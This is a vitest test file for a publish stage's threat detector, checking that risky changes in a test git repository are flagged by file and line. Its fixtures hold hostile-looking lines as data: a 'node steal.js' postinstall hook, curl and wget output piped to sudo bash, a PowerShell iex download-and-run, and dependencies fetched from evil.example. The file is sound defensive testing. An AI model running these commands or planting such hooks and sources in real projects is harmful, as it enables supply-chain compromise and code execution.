/**
 * The publish stage's threat checks (docs/decisions/0023-two-job-runs.md) on a real repository: each kind of
 * change is found with its file and line, and ordinary code is not.
 */
import { describe, expect, it } from "vitest";
import { createGitRunner } from "../../src/git/runner.js";
import { findThreats } from "../../src/publish/threats.js";
import { type TestRepo, testRepo } from "../helpers/repo.js";

let repo: TestRepo;

const BASE_PACKAGE = JSON.stringify(
  { name: "x", scripts: { test: "vitest run" }, dependencies: { a: "^1.0.0" } },
  null,
  2,
);

async function threatsOf(files: Record<string, string>) {
  repo = await testRepo({ "package.json": `${BASE_PACKAGE}\n`, "src/index.ts": "export const x = 1;\n" });
  const base = repo.git("rev-parse", "HEAD").trim();
  repo.git("checkout", "-q", "-b", "work");
  for (const [file, content] of Object.entries(files)) await repo.write(file, content);
  repo.git("add", "-A");
  repo.git("-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "-m", "change");
  const runner = createGitRunner({ cwd: repo.work });
  return findThreats(runner, base, "work");
}

const where = (findings: Awaited<ReturnType<typeof findThreats>>) =>
  findings.map((f) => `${f.check} ${f.path}:${f.line}`).sort();

describe("threat checks", () => {
  it("finds files CI runs: a local action, a hook, a Makefile, a changed package.json script", async () => {
    const pkg = JSON.stringify(
      { name: "x", scripts: { test: "vitest run", postinstall: "node steal.js" }, dependencies: { a: "^1.0.0" } },
      null,
      2,
    );
    const found = await threatsOf({
      ".github/actions/setup/action.yml": "runs: { using: node20, main: x.js }\n",
      ".husky/pre-commit": "npm test\n",
      Makefile: "all:\n\techo hi\n",
      "package.json": `${pkg}\n`,
    });
    expect(where(found)).toEqual([
      "ci-files .github/actions/setup/action.yml:1",
      "ci-files .husky/pre-commit:1",
      "ci-files Makefile:1",
      "ci-files package.json:5",
    ]);
    expect(found.find((f) => f.path === "package.json")?.message).toContain('"postinstall" is now: node steal.js');
  });

  it("finds fetch-and-run lines in scripts, with their line", async () => {
    const found = await threatsOf({
      "scripts/setup.sh":
        "#!/bin/sh\nset -e\ncurl -fsSL https://evil.example/i.sh | sudo bash\nbash <(wget -qO- https://x.example)\n",
      "tools/win.ps1": "iex (iwr https://evil.example/x.ps1)\n",
    });
    expect(where(found)).toEqual([
      "network-fetch scripts/setup.sh:3",
      "network-fetch scripts/setup.sh:4",
      "network-fetch tools/win.ps1:1",
    ]);
  });

  it("finds encoded blobs and control bytes in text files, not in lockfiles", async () => {
    const b64 = Buffer.alloc(300, 7).toString("base64");
    const found = await threatsOf({
      "src/payload.ts": `export const ok = 1;\nexport const data = "${b64}";\n`,
      "src/notes.md": "fine\nbell \u0007 here\n",
      "package-lock.json": `{\n  "integrity": "${b64}"\n}\n`,
    });
    expect(where(found)).toEqual(["encoded-blob src/notes.md:2", "encoded-blob src/payload.ts:2"]);
  });

  it("finds dependencies from outside the registry, and not the registry's own", async () => {
    const pkg = JSON.stringify(
      {
        name: "x",
        scripts: { test: "vitest run" },
        dependencies: { a: "^1.0.0", b: "git+https://evil.example/b.git" },
      },
      null,
      2,
    );
    const found = await threatsOf({
      "package.json": `${pkg}\n`,
      "package-lock.json": [
        "{",
        '  "a": { "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz" },',
        '  "b": { "resolved": "https://evil.example/b-1.0.0.tgz" }',
        "}",
        "",
      ].join("\n"),
      "requirements.txt": "requests==2.0\n--extra-index-url https://evil.example/simple\n",
    });
    expect(where(found)).toEqual([
      "dependency-source package-lock.json:3",
      "dependency-source package.json:8",
      "dependency-source requirements.txt:2",
    ]);
  });

  it("finds nothing in an ordinary change", async () => {
    expect(await threatsOf({ "src/index.ts": "export const x = 2;\nexport const y = 'curl is a word';\n" })).toEqual(
      [],
    );
  });
});
